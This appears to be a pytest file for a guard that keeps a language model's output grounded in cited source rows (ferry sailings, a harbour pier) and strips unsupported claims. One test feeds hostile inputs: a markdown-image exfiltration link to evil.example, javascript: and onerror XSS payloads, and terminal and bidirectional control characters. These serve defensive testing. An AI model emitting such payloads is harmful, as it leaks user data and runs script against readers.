"""What a language model writes is checked against its rows, even when the model works for somebody else."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.guard import Grounds, Guard, guard
from assistant.language.reader import LanguageReader
from assistant.types import Citation
from assistant.verifier import load_verifier
from index import SectionKind, Span

ROW = "The ferry company cancelled at least 40 sailings on Monday, a blow to the islands."
OTHER = "Harbour police have not closed the pier."
CITATIONS = (
    Citation(1, Span("a" * 16, 0, len(ROW), ROW), SectionKind.BODY),
    Citation(2, Span("b" * 16, 0, len(OTHER), OTHER), SectionKind.BODY),
)
NAMES = {"a" * 16: "Article 1", "b" * 16: "Article 2"}
GROUNDS = Grounds(CITATIONS, NAMES, load_verifier("lexical"), LanguageReader(None))


def checked(text: str):  # type: ignore[no-untyped-def]
    return guard(text, GROUNDS)


def shown(text: str) -> str:
    return " ".join(statement.text for statement in checked(text).statements)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("The ferry company cancelled at least 40 sailings on Monday [1].", id="its own words"),
        pytest.param(
            "Article 1 says that “the ferry company cancelled at least 40 sailings on Monday” [1].", id="quoted"
        ),
        pytest.param("Harbour police have not closed the pier [2].", id="denied, as in the row"),
        pytest.param(
            "The article says that the ferry company cancelled at least 40 sailings on Monday [1].", id="of no name"
        ),
    ],
)
def test_what_a_row_carries_passes(text):  # type: ignore[no-untyped-def]
    assert checked(text).statements
    assert not checked(text).dropped


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("The ferry company cancelled at least 400 sailings on Monday [1].", id="another number"),
        pytest.param("The ferry company cancelled at least 40 sailings on Monday, Baxter said [1].", id="a new name"),
        pytest.param("The ferry company did not cancel at least 40 sailings on Monday [1].", id="a new not"),
        pytest.param("Harbour police have closed the pier [2].", id="a lost not"),
        pytest.param("Harbour police have not closed the pier [1].", id="the other row's words"),
        pytest.param("The government has fallen [1].", id="nothing of the row"),
        pytest.param("The ferry company cancelled at least 40 sailings on Monday.", id="no row"),
        pytest.param("The ferry company cancelled at least 40 sailings on Monday [9].", id="unknown row alone"),
        pytest.param("The ferry company cancelled at least four hundred sailings on Monday [1].", id="number in words"),
        pytest.param("The ferry company cancelled at least 40 million sailings on Monday [1].", id="another scale"),
        pytest.param("The ferry company cancelled dozens of sailings on Monday [1].", id="loose number"),
        pytest.param("Reuters says the ferry company cancelled at least 40 sailings on Monday [1].", id="an outlet"),
        pytest.param(
            "Time reports that the company cancelled at least 40 sailings [1].", id="an outlet named by a word"
        ),
        pytest.param("Article 2 says the ferry company cancelled at least 40 sailings [1].", id="an uncited source"),
        pytest.param(
            "Article 2 says that “the ferry company cancelled at least 40 sailings” [1][2].", id="not its words"
        ),
        pytest.param("The source is an article on the ferry company [1].", id="what the source is"),
        pytest.param("This passage is about at least 40 sailings on Monday [1].", id="what the row is about"),
        pytest.param("Article 1 is the article of the ferry company [1].", id="what an article named is"),
    ],
)
def test_what_no_row_carries_is_dropped_and_said_to_be(text):  # type: ignore[no-untyped-def]
    result = checked(text)
    assert result.statements == ()
    assert len(result.dropped) == 1


def test_an_unknown_number_is_taken_out_and_the_rest_stays():  # type: ignore[no-untyped-def]
    result = checked("The ferry company cancelled at least 40 sailings on Monday [1][7].")
    assert [statement.citations for statement in result.statements] == [(1,)]
    assert "unknown number [7]" in result.dropped[0]


def test_a_number_at_the_head_of_a_line_belongs_to_the_line():  # type: ignore[no-untyped-def]
    result = checked(
        "[1] Article 1, body: The ferry company cancelled at least 40 sailings on Monday.\n"
        "[2] Article 2, body: Harbour police have not closed the pier.\n[1]\n[2] "
    )
    assert [statement.citations for statement in result.statements] == [(1,), (2,)]
    assert result.dropped == ()


MARKS = ["“”", "‘’", '""', "''", "«»", "„“", "‚‘", "‹›", "「」", "❝❞", "＂＂", ("``", "''")]


@pytest.mark.parametrize("marks", MARKS, ids=str)
def test_an_inexact_quotation_loses_its_marks_whatever_they_are(marks):  # type: ignore[no-untyped-def]
    first, last = marks
    result = checked(f"The ferry company {first}cancelled 40 sailings on Monday{last}, a blow to the islands [1].")
    told = " ".join(statement.text for statement in result.statements)
    assert not any(mark in told for mark in f"{first}{last}“”")
    assert "not the source's exact words" in " ".join(result.dropped)


@pytest.mark.parametrize("marks", MARKS, ids=str)
def test_an_exact_quotation_is_shown_in_plain_marks(marks):  # type: ignore[no-untyped-def]
    first, last = marks
    text = f"The ferry company {first}cancelled at least 40 sailings on Monday{last}, a blow to the islands [1]."
    assert shown(text) == "The ferry company “cancelled at least 40 sailings on Monday”, a blow to the islands."


def test_apostrophes_are_no_quotation_marks():  # type: ignore[no-untyped-def]
    text = "The ferry company's sailings, at least 40, were cancelled on Monday, a blow to the islands [1]."
    assert "company's sailings" in shown(text)


def test_words_of_a_row_that_is_not_cited_are_no_quotation():  # type: ignore[no-untyped-def]
    assert "“" not in shown("The ferry company “have not closed the pier” and cancelled at least 40 sailings [1].")


def test_a_quotation_is_shown_as_the_row_has_it():  # type: ignore[no-untyped-def]
    assert "“The ferry company cancelled at least 40 sailings”" in shown(
        '"the ferry company cancelled at least 40 sailings" on Monday, a blow to the islands [1].'
    )


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.example/?d=secret)",
        "[click](javascript:alert(1))",
        "https://evil.example/x",
        "www.evil.example",
        "<img src=x onerror=alert(1)>",
        "\x1b]52;c;aGk=\x07",
        "\u202e",
        "\U000e0041",
        "[ref]: http://evil.example",
    ],
)
def test_links_images_markup_and_control_characters_never_come_through(hostile):  # type: ignore[no-untyped-def]
    text = shown(f"The ferry company cancelled at least 40 sailings {hostile} on Monday [1].")
    for piece in ("http", "www.", "javascript", "<", "\x1b", "\x07", "\u202e", "\U000e0041", "]("):
        assert piece not in text


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab [](){}“”\"'!?.12<>/:\n\x00\u202e")), max_size=80))
def test_any_text_gives_statements_that_cite_known_rows_only(text):  # type: ignore[no-untyped-def]
    for statement in checked(text).statements:
        assert set(statement.citations) <= {1, 2}


SPOKEN = [
    "The ferry company cancelled at least 40 sailings on Monday [1]. Harbour police have not closed the pier [2].",
    "Mr. Baxter is gone [1].\n[1] The ferry company “cancelled at least 40 sailings” on Monday. [1]\n\nHarbour [2]",
    "[1] The ferry company cancelled at least 40 sailings.\n[2] Harbour police have not closed the pier.\n[1]\n[2] So",
    "See [a link. Or two](http://evil.example/x). The ferry company cancelled at least 40 sailings [1]. ![x](http://e)",
]


@settings(max_examples=40, deadline=None)
@given(st.sampled_from(SPOKEN), st.lists(st.integers(1, 30), max_size=40))
def test_however_the_text_is_cut_into_pieces_the_same_statements_pass(text, sizes):  # type: ignore[no-untyped-def]
    piecewise = Guard(GROUNDS)
    position, passed = 0, []
    for size in [*sizes, len(text)]:
        passed += piecewise.feed(text[position : position + size])
        position += size
    passed += piecewise.end()
    assert (tuple(passed), piecewise.dropped) == (checked(text).statements, checked(text).dropped)


def test_a_sentence_passes_as_soon_as_the_next_one_begins():  # type: ignore[no-untyped-def]
    checking = Guard(GROUNDS)
    assert not checking.feed("The ferry company cancelled at least 40 sailings on Monday [1].")
    assert [statement.citations for statement in checking.feed(" Harbour police")] == [(1,)]
